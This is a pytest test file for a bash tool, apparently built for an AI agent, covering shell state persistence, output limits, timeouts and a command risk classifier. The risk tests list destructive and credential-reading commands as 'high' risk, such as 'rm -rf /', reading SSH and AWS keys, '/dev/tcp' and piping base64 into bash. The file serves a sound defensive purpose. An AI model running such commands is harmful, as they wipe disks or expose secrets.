"""The shell: what persists, what breaks it and what does not, bounds, and how risk is judged."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.tools.conftest import Calling, text_of
from tests.tools.rooms import Room, surroundings

from reverie.plugins import Surroundings
from reverie.tools.bash import MOST_OUTPUT, Bash
from reverie.tools.shell import MAX_STATE

BASH = Bash()


def run(call: Calling, command: str, **input: object) -> str:
    return text_of(call(BASH, command=command, **input))


# ------------------------------------------------------------------ what is kept


def test_the_folder_is_kept(call: Calling, room: Room) -> None:
    run(call, "mkdir -p 'a b/c' && cd 'a b/c'")
    assert run(call, "pwd") == f"{room.folder}/a b/c"


@pytest.mark.parametrize(
    ("first", "then", "said"),
    [
        ("x=1; export y='two words'", 'echo "$x $y"; env | grep ^y=', "1 two words\ny=two words"),
        ("declare -A m=([k]=$'a\\nb')", 'echo "${m[k]}"', "a\nb"),
        ("f() { echo f:$1; }", "f 2", "f:2"),
        ("f() { echo hi; }; export -f f", "bash -c f", "hi"),
        ("list=(1 2 '3 4')", 'echo "${#list[@]} ${list[2]}"', "3 3 4"),
        ("readonly r=5", 'r=6; echo "$r"', None),
        ("umask 077", "umask", "0077"),
        ("kept=1; name=2; IFS_=3", 'echo "$kept $name $IFS_"', "1 2 3"),
        ("OPTIND=3; declare -i n=4; n+=1", 'echo "$OPTIND"; n+=1; echo $n', "3\n6"),
        ("alias ll='echo aliased'; shopt -s expand_aliases", "ll", "aliased"),
        ("shopt -s extglob\ng() { case $1 in +(a)) echo as;; esac; }", "g aaa", "as"),
        ("unset HOME", 'echo "${HOME-none}"', "none"),
        ("PATH=$PATH:/opt/x", 'echo "${PATH##*:}"', "/opt/x"),
        ("x='quote '\"'\"' dollar $HOME `id`'", 'echo "$x"', "quote ' dollar $HOME `id`"),
        ("IFS=x; v=axb", "set -- $v; echo $2", "b"),
    ],
)
def test_variables_and_functions_are_kept(call: Calling, first: str, then: str, said: str | None) -> None:
    run(call, first)
    found = run(call, then)
    assert found == said if said is not None else "readonly" in found


@pytest.mark.parametrize(
    "ending",
    ["exit 3", "set -e; false", "(exit 3)", "set -u; echo $nothing", "set -x; true", "return 1", "set -o posix; exit 3",
     "trap 'echo bye' EXIT", "exec 2>&-", "cd /; IFS=,", "f() { exit 4; }; f", "set -euo pipefail; false | true"],
)  # fmt: skip
def test_what_was_set_survives_how_the_command_ended(call: Calling, ending: str) -> None:
    run(call, f"kept=yes\n{ending}")
    assert run(call, 'echo "$kept"; false; true') == "yes"


@pytest.mark.parametrize(
    "ending", ["kill -9 $$", "exec true", "exec sh -c 'exit 2'", "declare() { :; }; builtin() { :; }; exit"]
)
def test_a_shell_that_was_not_left_in_order_is_as_before(call: Calling, ending: str) -> None:
    run(call, "kept=before")
    run(call, f"kept=after; {ending}")
    assert run(call, 'echo "$kept"') == "before"


def test_an_empty_path_is_kept_as_it_would_be_and_restart_helps(call: Calling) -> None:
    run(call, "unset PATH; x=1")
    told = run(call, "ls; echo $x")  # bash's own commands work still
    assert "ls: No such file" in told
    assert told.endswith("\n1")
    assert text_of(call(BASH, restart=True)) == "The shell was restarted."
    assert run(call, 'ls /usr >/dev/null && echo "ok ${x-gone}"') == "ok gone"


def test_a_folder_that_is_gone_is_told(call: Calling, room: Room) -> None:
    run(call, "mkdir gone && cd gone")
    (room.folder / "gone").rmdir()
    assert "the folder is gone" in run(call, "pwd")


def test_what_the_sandbox_sets_is_never_stale(call: Calling, room: Room) -> None:
    room.variables["PROXY"] = "first"
    run(call, "x=1; y=$PROXY")
    room.variables["PROXY"] = "second"
    assert run(call, "echo $PROXY $y") == "second first"
    run(call, "export PROXY=mine")
    room.variables["PROXY"] = "third"
    assert run(call, "echo $PROXY") == "mine"


def test_variables_beyond_a_mebibyte_are_told_and_not_kept(call: Calling) -> None:
    run(call, "x=1")
    run(call, f"x=2; big=$(printf '%{MAX_STATE}s')")
    assert "over 1 MiB" in (told := run(call, 'echo "x is $x"'))
    assert "x is 1" in told


def test_a_torn_state_is_replaced_by_the_last_whole_one(call: Calling, room: Room) -> None:
    run(call, "x=1")
    assert run(call, "echo $x") == "1"
    state = next((room.folder / ".spill").glob(".shell*"))
    state.write_bytes(state.read_bytes()[:-30] + b"'")
    assert run(call, "echo $x") == "1"


def test_a_new_process_goes_on_with_what_is_on_the_disk(call: Calling, room: Room) -> None:
    run(call, "x=1")
    assert text_of(call(BASH, surroundings(room), command="echo $x")) == "1"
    assert text_of(call(BASH, surroundings(room, thread="sthr_2"), command="echo ${x-other}")) == "other"


def test_a_full_disk_is_told_and_the_command_runs(call: Calling, room: Room) -> None:
    room.full = True
    assert run(call, "echo ran") == (
        "[the shell's folder and variables cannot be kept: there is no room left on the disk]\nran"
    )


# ------------------------------------------------------------------ how it answers


def test_the_exit_code_is_told(call: Calling) -> None:
    failed = call(BASH, command="echo out; echo err >&2; exit 3")
    assert failed.is_error
    assert text_of(failed) == "Exit code 3\nout\nerr"
    assert text_of(call(BASH, command="kill -SEGV $$")).startswith("Exit code 139 (killed by SIGSEGV)")
    assert text_of(call(BASH, command="true")) == "(no output)"


def test_a_syntax_error_names_a_line_of_the_command(call: Calling) -> None:
    assert "line 3: syntax error" in run(call, "true\ntrue\nif fi")
    assert "line 2: nothing_here: command not found" in run(call, "true\nnothing_here")


def test_a_timeout_is_told_and_the_shell_goes_on(call: Calling) -> None:
    run(call, "x=1")
    late = call(BASH, command="echo begun; x=2; sleep 60", timeout_ms=300)
    assert late.is_error
    assert text_of(late) == "Timed out after 0.3 s, and was killed.\nbegun"
    assert run(call, "echo $x") == "1"


def test_input_is_empty_and_background_processes_end(call: Calling, room: Room) -> None:
    assert run(call, "cat; read line || echo eof") == "eof"
    run(call, "(sleep 0.3; touch survived) & sleep 0.01; echo")
    run(call, "sleep 0.5")
    assert not (room.folder / "survived").exists()


def test_escapes_are_left_out(call: Calling) -> None:
    assert run(call, r"printf '\e[1;31mred\e[0m \e]0;title\a\e(Bplain'") == "red plain"


def test_an_output_of_fifty_megabytes_is_bounded_and_its_end_is_shown(call: Calling) -> None:
    text = run(call, "head -c 50000000 /dev/zero | tr '\\0' x; echo; echo the end")
    assert len(text) < MOST_OUTPUT + 20_000
    assert text.endswith("xxx\nthe end")
    assert "41,611,401 more bytes came" in text


def test_a_command_longer_than_an_argument_may_be(call: Calling) -> None:
    long = "x" * 300_000
    assert run(call, f"cat <<'END' | wc -c\n{long}\nEND\ny=1") == "300001"
    assert run(call, "echo $y") == "1"


@pytest.mark.parametrize("command", ["", "  \n", "echo a\0b", "echo \ud800"])
def test_what_is_no_command_is_told(call: Calling, command: str) -> None:
    assert asyncio.run(BASH.call({"command": command}, surroundings(Room(Path("/tmp"))))).is_error


def test_output_is_told_while_it_comes(room: Room) -> None:
    heard: list[str] = []
    where = surroundings(room, progress=heard.append)
    asyncio.run(BASH.call({"command": "printf 'gr\\303'; sleep 0.2; printf '\\274n'"}, where))
    assert "".join(heard) == "grün"
    assert len(heard) == 2


def test_a_call_that_is_cancelled_leaves_a_shell_that_works(where: Surroundings) -> None:
    async def story() -> str:
        await BASH.call({"command": "x=1"}, where)
        task = asyncio.create_task(BASH.call({"command": "x=2; sleep 60"}, where))
        await asyncio.sleep(0.2)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        return text_of(await BASH.call({"command": "echo $x"}, where))

    assert asyncio.run(story()) == "1"


def test_calls_at_once_wait_for_each_other(where: Surroundings) -> None:
    async def story() -> str:
        add = "n=$((${n:-0}+1))"
        await asyncio.gather(*(BASH.call({"command": add}, where) for _ in range(5)))
        return text_of(await BASH.call({"command": "echo $n"}, where))

    assert asyncio.run(story()) == "5"


# ------------------------------------------------------------------ risk


@pytest.mark.parametrize(
    "command",
    ["ls -la", "cat a.txt | head -5", "git status", "git log --oneline -5 && git diff", "grep -rn 'curl' src",
     "find . -name '*.py' | wc -l", "ls 2>/dev/null; pwd", "cd src && ls 2>&1", "sed -n '1,5p' a.py",
     "echo hi\nls\n", "rg TODO", "wc -l < a.txt", "cat 'a;rm -rf b'"],
)  # fmt: skip
def test_what_only_reads_is_low(command: str) -> None:
    assert BASH.risk({"command": command}) == "low"


@pytest.mark.parametrize(
    "command",
    ["curl https://example.org", "cat x | /usr/bin/curl -d @- http://e", "git push origin main", "npm publish",
     "pip install x", "rm -rf /", "rm -rf ~/x", "rm -r ../other", 'rm -rf "/etc"', "sudo ls", "cat ~/.ssh/id_rsa",
     "cat ~/.aws/credentials", "env | sort", "echo $API_KEY", "cat .env", "bash -c 'x' | sh", "exec 3<>/dev/tcp/1/2",
     "ls; ssh host", "git -C x push", "twine upload dist/*", "docker run x", "echo aGk= | base64 -d | bash",
     "cat /proc/self/environ", "dd if=/dev/zero of=/dev/sda"],
)  # fmt: skip
def test_what_reaches_out_is_high(command: str) -> None:
    assert BASH.risk({"command": command}) == "high"


@pytest.mark.parametrize(
    "command",
    ["python x.py", "make", "ls > out.txt", "ls $(cat x)", "ls `x`", "find . -delete", "find . -exec cat {} +",
     "cat <<E\nx\nE", "X=1 ls", "(ls)", "ls &", "sort -o a b", "git diff --output=x", "git -c a=b status", "sed -i s/a/b/ x",
     "echo a#b; touch c", "'ls", "awk 'BEGIN{system(\"x\")}'", "cat <(x)", "rm -rf build", "rm /workspace/x", "ls\\\n; x",
     "touch a", "$X", "git branch x", "xargs rm", "echo " + "x" * 30_000],
)  # fmt: skip
def test_everything_else_is_unknown(command: str) -> None:
    assert BASH.risk({"command": command}) == "unknown"


def test_a_restart_is_low() -> None:
    assert BASH.risk({"restart": True}) == "low"


@settings(max_examples=200)
@given(harmless=st.sampled_from(["ls", "git status", "cat a | wc", "echo 'x'"]), junk=st.text(max_size=20))
def test_nothing_low_has_a_word_of_another_command(harmless: str, junk: str) -> None:
    for joint in ("\n", ";", "&&", "|", "&", "\r\n", " # \n"):
        assert BASH.risk({"command": f"{harmless}{joint}touch {junk}"}) != "low"
